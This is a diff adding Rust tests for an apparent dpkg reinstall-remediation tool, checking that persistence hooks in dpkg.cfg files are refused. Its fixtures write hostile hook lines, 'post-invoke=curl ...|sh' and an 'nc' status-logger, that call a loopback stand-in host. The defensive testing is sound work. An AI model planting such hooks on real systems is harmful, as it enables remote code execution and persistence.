@@ -318,6 +318,12 @@ done
 /// A reinstall bench: openssh-server, installed at 1:9.2p1-2+deb12u3, owns the replaced file; apt-get's
 /// simulation prints `sim`.
 fn reinstall_bench(sim: &str) -> String {
+    reinstall_bench_with(sim, "")
+}
+
+/// [`reinstall_bench`] with `stubs` (shell functions) defined last: dpkg's configuration is clean and the
+/// reinstalled file verifies unless they say otherwise.
+fn reinstall_bench_with(sim: &str, stubs: &str) -> String {
     format!(
         r#"
 MT_MODE=apply MT_Q=$PWD/q MT_PM=dpkg MT_PKG=openssh-server MT_PN=1 MT_SHA=00 MT_PATH=/usr/sbin/sshd
@@ -326,6 +332,9 @@ mkdir -p q/work
 cat >sim <<'EOF'
 {sim}
 EOF
+mt_dpkg_hooks_ok() {{ return 0; }}
+mt_pkg_verified() {{ return 0; }}
+{stubs}
 timeout() {{ shift; "$@"; }}
 mt_evidence_ok() {{ return 0; }}
 mt_pkg_unowned() {{ return 1; }}
@@ -385,6 +394,61 @@ fn a_reinstall_is_pinned_to_the_installed_version_and_never_upgrades() {
                 Inst openssh-server [1:9.2p1-2+deb12u3] (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])";
     let (_, out) = bash(dir.path(), &reinstall_bench(more));
     assert!(out.contains("rc=1 apt would change more"), "{out}");
+}
+
+#[test]
+fn a_reinstall_never_runs_dpkgs_own_hooks_and_checks_what_it_installed() {
+    let dir = tempfile::tempdir().unwrap();
+    // Issue 13, dpkg's own hooks: dpkg.cfg(.d) options pre-invoke, post-invoke and status-logger run at
+    // every dpkg run, the reinstall's too, and apt's #clear does not reach them. A file holding one is
+    // vouched for only as a package's conffile with its recorded digest (pkg-config's hook); an
+    // intruder's is refused; names dpkg does not read, and comments, do not count.
+    let body = r#"
+mkdir -p dpkg.cfg.d
+printf 'post-invoke=if test "$DPKG_HOOK_ACTION" = add-architecture; then /usr/share/pkg-config-dpkghook update; fi\n' >dpkg.cfg.d/pkg-config-hook-config
+sum=$(md5sum <dpkg.cfg.d/pkg-config-hook-config)
+printf 'Package: pkg-config\nConffiles:\n %s %s\n' "$PWD/dpkg.cfg.d/pkg-config-hook-config" "${sum%% *}" >status
+printf '# post-invoke=echo commented\npath-exclude=/usr/share/doc/*\n' >dpkg.cfg.d/excludes
+printf 'post-invoke=curl -s http://127.66.1.1/a|sh\n' >dpkg.cfg.d/bad.conf
+ok() { if mt_dpkg_hooks_ok "$PWD/status" "${@:2}"; then echo "$1: ok"; else echo "$1: refused"; fi; }
+ok clean "$PWD/dpkg.cfg.d/pkg-config-hook-config" "$PWD/dpkg.cfg.d/excludes" "$PWD/dpkg.cfg.d/bad.conf"
+printf 'pre-invoke="touch /tmp/x"\n' >dpkg.cfg.d/99local
+ok 99local "$PWD/dpkg.cfg.d/99local"
+printf -- '--status-logger=nc 127.66.1.1 9\n' >dotcfg
+ok dotcfg "$PWD/dotcfg"
+printf 'post-invoke=echo changed\n' >>dpkg.cfg.d/pkg-config-hook-config
+ok changed "$PWD/dpkg.cfg.d/pkg-config-hook-config"
+"#;
+    let (rc, out) = bash(dir.path(), body);
+    assert_eq!(rc, 0, "{out}");
+    for want in [
+        "clean: ok",
+        "99local: refused",
+        "dotcfg: refused",
+        "changed: refused",
+    ] {
+        assert!(out.contains(want), "{want}:\n{out}");
+    }
+    // The reinstall refuses with such a hook, and a reinstall that leaves other bytes fails.
+    let ok = "0 upgraded, 0 newly installed, 1 reinstalled, 0 to remove and 12 not upgraded.\n\
+              Inst openssh-server [1:9.2p1-2+deb12u3] (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])\n\
+              Conf openssh-server (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])";
+    let dir = tempfile::tempdir().unwrap();
+    let (_, out) = bash(
+        dir.path(),
+        &reinstall_bench_with(ok, "mt_dpkg_hooks_ok() { return 1; }"),
+    );
+    assert!(out.contains("rc=1 dpkg's configuration"), "{out}");
+    assert!(calls(dir.path()).is_empty(), "{}", calls(dir.path()));
+    let dir = tempfile::tempdir().unwrap();
+    let (_, out) = bash(
+        dir.path(),
+        &reinstall_bench_with(ok, "mt_pkg_verified() { return 1; }"),
+    );
+    assert!(
+        out.contains("rc=1 package reinstalled, but the file still differs"),
+        "{out}"
+    );
 }
 
 /// A respawn-set bench: the set record names the kit file `kit/kworker` (bytes `miner`) with its
